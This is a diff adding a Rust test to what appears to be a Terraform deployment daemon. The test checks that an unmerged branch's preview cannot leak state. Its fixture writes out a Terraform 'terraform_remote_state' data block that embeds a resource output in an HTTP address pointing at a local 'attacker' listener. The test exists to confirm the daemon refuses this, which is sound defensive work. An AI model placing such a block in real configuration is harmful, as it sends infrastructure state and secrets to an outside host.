@@ -109,3 +109,43 @@ fn a_deeply_nested_file_on_a_branch_does_not_take_the_daemon_down() {
         f.applied("prod", &next)
     });
 }
+
+/// An unmerged commit cannot read the merged state out through `terraform_remote_state`: its
+/// preview is refused before terraform runs, and the "attacker" never hears from it.
+#[test]
+fn a_preview_cannot_send_state_out_through_remote_state() {
+    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    attacker.set_nonblocking(true).unwrap();
+    let address = attacker.local_addr().unwrap();
+    let fixture = Fixture::new("");
+    let first = fixture.clone.git(&["rev-parse", "HEAD"]);
+    fixture.wait_for("prod applied", |f| f.applied("prod", &first));
+
+    fixture.clone.git(&["checkout", "-q", "-b", "exfiltrate"]);
+    fixture.clone.append(
+        "modules/prod-app/main.tf",
+        &format!(
+            "\ndata \"terraform_remote_state\" \"out\" {{\n  backend = \"http\"\n  config  = {{ address = \"http://{address}/${{terraform_data.app.output}}\" }}\n}}\n"
+        ),
+    );
+    let commit = fixture.clone.commit_all("exfiltrate");
+    fixture.push("exfiltrate");
+    fixture.wait_for("the preview refused", |f| {
+        f.sink
+            .all("prod", "config_error")
+            .iter()
+            .any(|alert| alert["commit"] == commit.as_str())
+    });
+    let alert = fixture.sink.find("prod", "config_error").unwrap();
+    assert!(
+        alert["message"]
+            .as_str()
+            .unwrap()
+            .contains("data source \"terraform_remote_state\" is refused for environment prod"),
+        "{alert}"
+    );
+    assert!(
+        attacker.accept().is_err(),
+        "the attacker's server was reached"
+    );
+}
